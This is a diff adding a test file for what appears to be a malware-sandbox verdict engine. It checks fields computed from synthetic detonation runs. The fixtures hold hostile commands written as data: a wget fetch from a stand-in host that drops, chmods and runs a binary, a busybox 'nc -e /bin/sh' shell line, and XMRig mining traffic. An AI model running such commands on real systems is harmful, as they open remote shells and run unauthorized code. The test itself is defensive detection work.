@@ -1,0 +1,71 @@
+import { readFileSync } from 'node:fs';
+import { fileURLToPath } from 'node:url';
+import { describe, expect, it } from 'vitest';
+import { buildContext } from '../../src/verdict/context.js';
+import { eventsOf, FIELDS_BY_KIND } from '../../src/verdict/fields/index.js';
+import { EVENT_KINDS } from '../../src/verdict/types.js';
+import { applet, conn, detonation, minerRun, proc } from './behavior.js';
+
+const docs = readFileSync(fileURLToPath(new URL('../../docs/rules.md', import.meta.url)), 'utf8');
+
+const rich = () => {
+  const base = minerRun();
+  return detonation({
+    ...base,
+    processes: [...base.processes, applet(9, 1, 'wget', ['-O', '/tmp/a', 'http://dl.example.invalid/a']), proc(10, 1, ['/tmp/b'], '/tmp/b', 500)],
+    files: [
+      { op: 'create', path: '/tmp/a', pid: 9 },
+      { op: 'chmod', path: '/tmp/a', pid: 1 },
+      { op: 'rename', path: '/tmp/a', to: '/tmp/b', pid: 1 },
+    ],
+    connections: [...base.connections, conn({ pid: 9, dst: '198.51.100.4', port: 80, host: 'dl.example.invalid', protocol: 'http' })],
+    kills: [{ pid: 1, target: 7, signal: 'SIGTERM', targetExe: '/opt/xmrig' }],
+  });
+};
+
+describe('behaviour fields', () => {
+  it('every field is documented in docs/rules.md, and every event carries exactly the documented fields', () => {
+    const ctx = buildContext(rich());
+    for (const kind of EVENT_KINDS) {
+      const names = FIELDS_BY_KIND[kind].map((f) => f.name);
+      for (const name of names) expect(docs, name).toContain(`\`${name}\``);
+      const events = eventsOf(kind, ctx);
+      expect(events.length, kind).toBeGreaterThan(0);
+      for (const e of events) expect(Object.keys(e.values).sort(), kind).toEqual([...names].sort());
+    }
+  });
+
+  it('computes the process tree fields: names through busybox, ancestors, connections, and how the exe got there', () => {
+    const ctx = buildContext(rich());
+    const byPid = Object.fromEntries(eventsOf('process', ctx).map((e) => [e.values['proc.pid'] as number, e.values]));
+    expect(byPid[9]).toMatchObject({ 'proc.name': 'wget', 'proc.connected': true, 'proc.connection': 'dl.example.invalid:80', 'proc.ancestors': ['sh'] });
+    // dropped as /tmp/a by wget (which connected), made executable, renamed to /tmp/b, run
+    expect(byPid[10]).toMatchObject({
+      'proc.exe_dropped': true,
+      'proc.exe_chmodded': true,
+      'proc.exe_downloaded': true,
+      'proc.exe_download_from': 'dl.example.invalid:80',
+      'proc.exe_written_by': ['wget', 'sh'],
+      'proc.parent.name': 'sh',
+    });
+    expect(byPid[7]).toMatchObject({ 'proc.exe_dropped': false, 'proc.connected': true, 'proc.connection': 'pool.example.test:3333' });
+    const busybox = buildContext(detonation({ processes: [proc(3, 1, ['busybox', 'nc', '-e', '/bin/sh'], '/bin/busybox'), proc(4, 1, ['/bin/sh'], '/bin/busybox')] }));
+    expect(eventsOf('process', busybox).map((e) => e.values['proc.name'])).toEqual(['nc', 'sh']);
+  });
+
+  it('joins the sinkhole\'s records to connections and totals the run', () => {
+    const ctx = buildContext(rich());
+    const stratum = eventsOf('connection', ctx).find((e) => e.values['conn.protocol'] === 'stratum')!;
+    expect(stratum.values).toMatchObject({
+      'conn.stratum.method': ['login'],
+      'conn.stratum.agent': expect.stringMatching(/^XMRig\/6\.21\.0/),
+      'conn.stratum.wallet': expect.stringMatching(/^44AFF/),
+      'conn.stratum.pool': 'pool.example.test:3333',
+      'conn.proc.name': 'xmrig',
+    });
+    const run = eventsOf('run', ctx)[0]!.values;
+    expect(run).toMatchObject({ 'run.cpu_busy': expect.closeTo(0.94, 6), 'run.connections': 2, 'run.distinct_dsts': 2, 'run.stratum': true, 'run.timed_out': true, 'run.killed_by': 'deadline', 'run.exit_code': null });
+    const kill = eventsOf('kill', ctx)[0]!.values;
+    expect(kill).toMatchObject({ 'kill.target_name': 'xmrig', 'kill.target_in_tree': true, 'kill.proc.name': 'sh' });
+  });
+});
